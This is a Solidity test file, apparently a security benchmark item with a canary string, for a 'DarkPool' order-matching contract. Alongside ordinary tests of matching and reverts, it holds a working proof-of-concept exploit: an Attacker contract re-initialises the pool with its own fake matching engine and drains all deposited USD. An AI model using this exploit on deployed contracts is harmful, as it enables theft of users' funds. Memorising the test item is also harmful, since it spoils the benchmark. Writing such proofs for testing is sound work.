// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import "./DarkPool.sol";

// assay-canary-47d216c3-63b4-4aa3-a9e5-1f041c86b227

interface Vm {
    function roll(uint256 number) external;
    function prank(address sender) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xB4A3);
    address internal constant TREASURY = address(0x40);

    Token internal usd;
    Token internal metal;
    DarkPool internal pool;
    Attacker internal mallory;

    function setUp() public {
        vm.roll(1000);
        usd = new Token();
        metal = new Token();
        pool = new DarkPool();
        pool.initialise(address(new MatchingEngine()), TREASURY);
        _deposit(usd, ANA, 209_000e6);
        _deposit(metal, BEN, 50e18);
        mallory = new Attacker(pool, usd);
    }

    function _deposit(Token t, address who, uint256 amount) internal {
        t.mint(who, amount);
        vm.prank(who);
        t.approve(address(pool), amount);
        vm.prank(who);
        pool.deposit(address(t), amount);
    }

    function test_Regular() public {
        Order memory a = Order(ANA, address(usd), address(metal), 100_000e6, 40e18, "a");
        Order memory b = Order(BEN, address(metal), address(usd), 40e18, 99_000e6, "b");
        vm.prank(ANA);
        bytes32 id = pool.placeOrder(a);
        vm.prank(BEN);
        pool.placeOrder(b);
        vm.roll(1001);
        pool.matchOrders(a, b);
        require(pool.placedIn(id) == 0, "done");
        require(pool.balances(address(metal), ANA) == 39.988e18, "metal");
        require(pool.balances(address(usd), BEN) == 99_970e6, "dollars");
        vm.prank(TREASURY);
        pool.withdraw(address(usd), 30e6);
        vm.prank(BEN);
        pool.withdraw(address(usd), 99_970e6);
        require(usd.balanceOf(BEN) == 99_970e6, "out");
        vm.prank(ANA);
        pool.placeOrder(a);
        vm.prank(ANA);
        pool.cancelOrder(a);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Orders that are placed, fit one another, and are their owners'.
    function test_RefusesOrders() public {
        Order memory a = Order(ANA, address(usd), address(metal), 100e6, 4e18, "a");
        Order memory b = Order(BEN, address(metal), address(usd), 4e18, 100e6, "b");
        vm.prank(ANA);
        bytes32 idA = pool.placeOrder(a);
        bytes memory notA = abi.encodeWithSelector(MatchingEngine.OrderNotReady.selector, idA);
        vm.expectRevert(notA);
        pool.matchOrders(a, b);
        vm.roll(1001);
        vm.prank(BEN);
        bytes32 idB = pool.placeOrder(b);
        bytes memory notB = abi.encodeWithSelector(MatchingEngine.OrderNotReady.selector, idB);
        vm.expectRevert(notB);
        pool.matchOrders(a, b);
        vm.roll(1002);
        refuses(BEN, abi.encodeWithSelector(DarkPool.AlreadyPlaced.selector, idB));
        pool.placeOrder(b);
        refuses(BEN, abi.encodeWithSelector(DarkPool.NotOwner.selector, BEN));
        pool.placeOrder(a);
        refuses(BEN, abi.encodeWithSelector(DarkPool.NotOwner.selector, BEN));
        pool.cancelOrder(a);
        vm.prank(ANA);
        pool.cancelOrder(a);
        vm.expectRevert(notA);
        pool.matchOrders(a, b);
        vm.prank(ANA);
        pool.placeOrder(a);
        vm.prank(BEN);
        pool.cancelOrder(b);
        vm.roll(1003);
        vm.expectRevert(notB);
        pool.matchOrders(a, b);
    }

    /// What does not fit.
    function test_RefusesMisfits() public {
        Order memory a = Order(ANA, address(usd), address(metal), 100e6, 4e18, "a");
        bytes memory why = abi.encodeWithSelector(MatchingEngine.TokensDoNotFit.selector, usd, metal);
        _refusesMatch(a, Order(BEN, address(metal), address(metal), 4e18, 0, "b"), why);
        _refusesMatch(a, Order(BEN, address(usd), address(usd), 4e18, 100e6, "c"), why);
        why = abi.encodeWithSelector(MatchingEngine.AmountTooSmall.selector, 100e6, 100e6 + 1);
        _refusesMatch(a, Order(BEN, address(metal), address(usd), 4e18, 100e6 + 1, "d"), why);
        why = abi.encodeWithSelector(MatchingEngine.AmountTooSmall.selector, 4e18 - 1, 4e18);
        _refusesMatch(a, Order(BEN, address(metal), address(usd), 4e18 - 1, 100e6, "e"), why);
    }

    function _refusesMatch(Order memory a, Order memory b, bytes memory why) private {
        if (pool.placedIn(keccak256(abi.encode(a))) == 0) {
            vm.prank(ANA);
            pool.placeOrder(a);
        }
        vm.prank(BEN);
        pool.placeOrder(b);
        vm.roll(block.number + 1);
        vm.expectRevert(why);
        pool.matchOrders(a, b);
    }

    /// Setups that are none, and tokens that say no.
    function test_RefusesSetups() public {
        DarkPool fresh = new DarkPool();
        vm.expectRevert(abi.encodeWithSelector(DarkPool.NotAnEngine.selector, ANA));
        fresh.initialise(ANA, TREASURY);
        address engine = pool.engine();
        vm.expectRevert(DarkPool.ZeroTreasury.selector);
        fresh.initialise(engine, address(0));
        vm.expectRevert(DarkPool.NotInitialised.selector);
        fresh.deposit(address(usd), 0);
        Order memory a = Order(ANA, address(usd), address(metal), 100e6, 4e18, "a");
        refuses(ANA, DarkPool.NotInitialised.selector);
        fresh.placeOrder(a);
        vm.expectRevert(DarkPool.NotInitialised.selector);
        fresh.matchOrders(a, a);
        usd.sleep(true);
        vm.expectRevert(abi.encodeWithSelector(SafeERC20.SafeERC20FailedOperation.selector, usd));
        pool.deposit(address(usd), 0);
        vm.expectRevert(abi.encodeWithSelector(SafeERC20.SafeERC20FailedOperation.selector, usd));
        pool.withdraw(address(usd), 0);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(mallory));
        exploit();
        require(usd.balanceOf(address(mallory)) >= before + 209_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Sends everything to the one named as owner.
contract OwnEngine {
    function matchOrders(Order calldata left, Order calldata) external {
        Token t = Token(left.sellToken);
        t.transfer(left.owner, t.balanceOf(address(this)));
    }
}

/// Initialises the pool once more.
contract Attacker {
    DarkPool internal pool;
    Token internal usd;
    OwnEngine internal own;

    constructor(DarkPool pool_, Token usd_) {
        pool = pool_;
        usd = usd_;
        own = new OwnEngine();
    }

    function run() external {
        pool.initialise(address(own), address(this));
        Order memory o;
        (o.owner, o.sellToken) = (address(this), address(usd));
        pool.matchOrders(o, o);
    }
}
